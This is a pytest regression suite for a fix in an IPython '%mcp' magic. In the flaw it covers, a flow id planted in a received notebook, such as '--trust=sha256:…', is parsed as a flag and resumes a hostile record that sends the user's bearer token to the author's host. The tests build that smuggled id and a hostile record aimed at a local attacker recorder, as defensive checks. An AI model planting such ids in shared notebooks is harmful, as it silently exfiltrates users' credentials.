"""A word of a suggested ``%mcp`` line that starts with ``-`` is read as a flag, however it is quoted.

``mcp_line`` quotes server and record text so the magic's split, comment stripping and ``{expr}``
expansion read it back as one word, but the subcommand's parser then reads any word starting with
``-`` as one of its flags: quotes are gone by then. A received notebook's metadata may hold an
entry whose ``id`` is ``--trust=sha256:`` and the digest of *another* record, a hostile one the
person never consented to. The labextension's waiting badge said "run %mcp resume ID" with that
id as it was (it is no valid record, so the kernel holds only the hostile one); run as suggested,
``%mcp resume`` took it as ``--trust DIGEST`` with no id, picked the only waiting flow, found the
digest matching and resumed it: the user's bearer token went to the notebook author's host with no
question (issue 34, finding 3, as it meets finding 1). Now only our own flags (``core.text.Flag``)
are written as flags; any other word starting with ``-`` is written as ``…`` for the person to
fill in (after a stdio command's ``--`` the command's own words are written as they are).
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import pytest
from IPython.core.error import UsageError
from IPython.core.interactiveshell import InteractiveShell

from mcp_notebook.core.text import UNWRITABLE, Flag, line_word, mcp_line
from mcp_notebook.flows.trust import content_digest, shown_digest
from mcp_notebook.notebook.frontend import Frontend

from ..conftest import session_of
from ..support.recorder import Recorder, recording
from ..support.waiting import wait_until

TOKEN = "users-real-svc-token-4b1e"


@pytest.fixture
def attacker() -> Iterator[Recorder]:
    with recording() as r:
        yield r


@pytest.fixture
def only_received(undo_each_test: InteractiveShell, monkeypatch: pytest.MonkeyPatch) -> None:
    """The user's token set, and no saved record but the test's: the received notebook's is the only one waiting
    (the test's records are deleted after it)."""
    monkeypatch.setenv("LINE_FLAGS_SVC_TOKEN", TOKEN)
    store = session_of(undo_each_test).store
    for record in store.saved_all():
        store.delete(record.id)


def hostile_record(port: int) -> dict[str, Any]:
    """A received notebook's record: it reaches the author's host with the user's token (never consented to)."""
    question = {
        "method": "elicitation/create",
        "params": {
            "message": "Go on?",
            "requestedSchema": {"type": "object", "properties": {"go": {"type": "boolean"}}},
        },
    }
    return {
        "v": 1, "id": "h1", "cell_id": "c-other", "method": "tools/call", "name": "report", "arguments": {},
        "server": {"name": "rep", "target": f"http://127.0.0.1:{port}/mcp", "bearer_env": "LINE_FLAGS_SVC_TOKEN"},
        "round": 1, "request_state": None, "pending": {"go": question}, "updated": "2026-11-30T10:00:00Z",
    }  # fmt: skip


@pytest.mark.usefixtures("only_received")
def test_a_flow_id_that_reads_as_a_flag_sends_nothing_when_its_line_is_followed(
    ip: InteractiveShell, attacker: Recorder
) -> None:
    hostile = hostile_record(attacker.port)
    Frontend(session_of(ip).store).handle({"op": "restore", "flows": {"h1": hostile}})  # the page's restore
    planted = f"--trust={shown_digest(content_digest(hostile))}"  # another metadata entry's id
    line = mcp_line("%mcp", "resume", planted)  # the line suggested for that entry, as the badge and hints write it
    assert line == f"%mcp resume {UNWRITABLE}"
    ran = ip.run_cell(line)  # followed as suggested, in a cell of its own
    time.sleep(0.3)
    assert attacker.seen == []  # on the old code: ['Bearer users-real-svc-token-4b1e'], resumed without consent
    assert isinstance(ran.error_in_exec, UsageError) and f"still holds {UNWRITABLE}" in str(ran.error_in_exec)


@pytest.mark.parametrize(
    "value", ["--trust", "--trust=sha256:0123456789abcdef0123", "-o", "--accept-defaults", "-", "--", "-1"]
)
def test_a_value_starting_with_a_dash_is_never_written_as_a_flag(value: str) -> None:
    assert mcp_line("%mcp", "resume", value, Flag("--trust")) == f"%mcp resume {UNWRITABLE} --trust"
    assert mcp_line("%mcp", "connect", "s", Flag("--cwd"), value) == f"%mcp connect s --cwd {UNWRITABLE}"
    # a stdio command's own words, after our `--`, are the command's: written as they are
    assert (
        mcp_line("%mcp", "connect", "s", Flag("--"), "python", value) == f"%mcp connect s -- python {line_word(value)}"
    )


def test_our_own_flags_are_written_as_flags() -> None:
    assert mcp_line("%mcp", "resume", "f1", Flag("--trust"), "DIGEST") == "%mcp resume f1 --trust DIGEST"
    answers = '{"-x": "VALUE"}'
    assert mcp_line(Flag("--answers"), answers) == "--answers " + line_word(answers)


def test_every_flag_handed_to_mcp_line_is_a_flag() -> None:
    """A plain ``"--trust"`` handed to ``mcp_line`` would be written as ``…``: the package names each of its flags."""
    import ast

    from ..conftest import REPO_ROOT

    found = []
    for path in sorted((REPO_ROOT / "mcp_notebook").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and getattr(node.func, "id", getattr(node.func, "attr", None)) == "mcp_line":
                found += [
                    f"{path.relative_to(REPO_ROOT)}:{node.lineno}: {arg.value}"
                    for arg in node.args
                    if isinstance(arg, ast.Constant) and isinstance(arg.value, str) and arg.value.startswith("-")
                ]
    assert not found, "wrap these in core.text.Flag:\n" + "\n".join(found)


@pytest.mark.usefixtures("only_received")
def test_tab_never_offers_a_received_flow_id_that_reads_as_a_flag(ip: InteractiveShell, attacker: Recorder) -> None:
    """Tab after ``%mcp resume `` offers the waiting flows' ids, which a received notebook chose. One spelled
    ``--trust=sha256:`` and a hostile record's digest, picked in a cell of that notebook where the hostile record
    is the cell's only flow, consented to it unseen (as the followed line above): it is never offered."""
    from IPython.core.completer import provisionalcompleter

    hostile = hostile_record(attacker.port) | {"id": "h2"}  # an id no other test deleted (a store remembers those)
    planted = f"--trust={shown_digest(content_digest(hostile))}"
    Frontend(session_of(ip).store).handle(
        {"op": "restore", "flows": {"h2": hostile, planted: hostile | {"id": planted, "cell_id": "c-badge"}}}
    )
    assert session_of(ip).store.get(planted) is not None  # a valid record under that id
    line = "%mcp resume "
    with provisionalcompleter():
        offered = [c.text for c in ip.Completer.completions(line, len(line))]
    assert "h2" in offered
    assert not [text for text in offered if text.lstrip("'\"").startswith("-")], offered
    assert attacker.seen == []


@pytest.mark.usefixtures("only_received")
def test_trust_before_an_id_that_looks_like_a_digest_is_that_id(ip: InteractiveShell, attacker: Recorder) -> None:
    """``%mcp resume --trust ID`` is the flow ``ID`` (the form the grammar also takes). A received entry whose id is
    a hostile record's digest in hex was read as ``--trust DIGEST`` with no id: the only waiting flow, the hostile
    one, had that digest and resumed unseen. A digest now names a record only after the flow's id."""
    hostile = hostile_record(attacker.port) | {"id": "h3"}
    Frontend(session_of(ip).store).handle({"op": "restore", "flows": {"h3": hostile}})
    planted = shown_digest(content_digest(hostile)).removeprefix("sha256:")  # the id another entry shows
    ran = ip.run_cell(f"%mcp resume --trust {planted}")
    time.sleep(0.3)
    assert attacker.seen == []  # on the old code: ['Bearer users-real-svc-token-4b1e']
    assert ran.error_in_exec is not None and f"no saved flow {planted!r}" in str(ran.error_in_exec)
    ran = ip.run_cell(f"%mcp resume h3 --trust {planted}")  # the id, then the digest of what it holds: as before
    wait_until(lambda: attacker.seen, "the hostile record named with its id and digest to be resumed", timeout=5)


@pytest.mark.usefixtures("only_received")
def test_a_line_run_with_its_placeholder_left_in_does_nothing(ip: InteractiveShell, attacker: Recorder) -> None:
    """``…`` stands for a word the suggested line could not hold. Run as printed, it named a received record
    whose id is ``…``: ``%mcp resume … --trust`` (printed for an entry whose id starts with ``-``) then consented
    to that other record, shown once in the flows listing, and sent the user's token to its host."""
    hostile = hostile_record(attacker.port) | {"id": UNWRITABLE}
    Frontend(session_of(ip).store).handle({"op": "restore", "flows": {UNWRITABLE: hostile}})
    with pytest.raises(UsageError):  # shown whole (headless: refused, and remembered as shown)
        ip.run_line_magic("mcp", f"resume {UNWRITABLE}")
    suggested = mcp_line("%mcp", "resume", "--odd-id", Flag("--trust"))  # the line printed for the other entry
    assert suggested == f"%mcp resume {UNWRITABLE} --trust"
    ran = ip.run_cell(suggested)
    time.sleep(0.3)
    assert attacker.seen == []  # on the old code: ['Bearer users-real-svc-token-4b1e']
    assert isinstance(ran.error_in_exec, UsageError)
    assert str(ran.error_in_exec).startswith(f"this line still holds {UNWRITABLE}")
